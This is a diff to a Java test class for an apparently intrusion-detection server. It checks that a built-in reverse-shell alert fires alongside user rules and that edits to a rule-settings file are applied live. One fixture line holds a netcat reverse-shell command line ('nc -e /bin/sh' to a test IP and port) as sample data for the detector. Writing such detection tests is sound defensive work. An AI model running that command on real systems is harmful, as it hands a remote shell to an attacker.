@@ -3,6 +3,7 @@ package io.vigil.server;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import io.vigil.detect.settings.LiveRuleSettings;
 import io.vigil.hub.registry.RegisteredDevice;
 import io.vigil.model.Alert;
 import io.vigil.model.event.EventHeader;
@@ -57,12 +58,29 @@ class UserRulesServerTest {
               new ProcessCreate.Process("/usr/bin/nc.traditional", 77, 1, "0", "root", "nc.traditional -e /bin/sh 198.51.100.7 4444", Map.of()),
               new ProcessCreate.Process("/usr/bin/nc", 78, 1, "0", "root", "nc -zv 10.0.0.1 22", Map.of())))));
       long deadline = System.currentTimeMillis() + 10_000;
-      while (alerts.stream().noneMatch(a -> a.alertName().equals("Custom_NetcatExec")) && System.currentTimeMillis() < deadline) {
+      while ((alerts.stream().noneMatch(a -> a.alertName().equals("Custom_NetcatExec"))
+          || alerts.stream().noneMatch(a -> a.alertName().equals("IoT_ReverseShell"))) && System.currentTimeMillis() < deadline) {
         Thread.sleep(50);
       }
     }
     assertThat(alerts).filteredOn(a -> a.alertName().equals("Custom_NetcatExec")).singleElement()
         .satisfies(a -> assertThat(a.deviceId()).isEqualTo("gw-rules"));
+    assertThat(alerts).as("the built-in pack runs beside the user's rules").filteredOn(a -> a.alertName().equals("IoT_ReverseShell"))
+        .singleElement().satisfies(a -> assertThat(a.ruleId()).isNotBlank());
+  }
+
+  @Test
+  void anEditOfTheSettingsFileIsPickedUpWithinSeconds() throws Exception {
+    Path file = dir.resolve("rules-settings.json");
+    LiveRuleSettings settings = LiveRuleSettings.open(file);
+    try (AutoCloseable watching = UserRules.watch(settings)) {
+      Files.writeString(file, "{\"rules\": {\"IoT_ReverseShell\": {\"enabled\": false}}}");
+      long deadline = System.currentTimeMillis() + 10_000;
+      while (settings.current().rules().isEmpty() && System.currentTimeMillis() < deadline) {
+        Thread.sleep(50);
+      }
+    }
+    assertThat(settings.current().enabled("default", "IoT_ReverseShell")).isFalse();
   }
 
   @Test
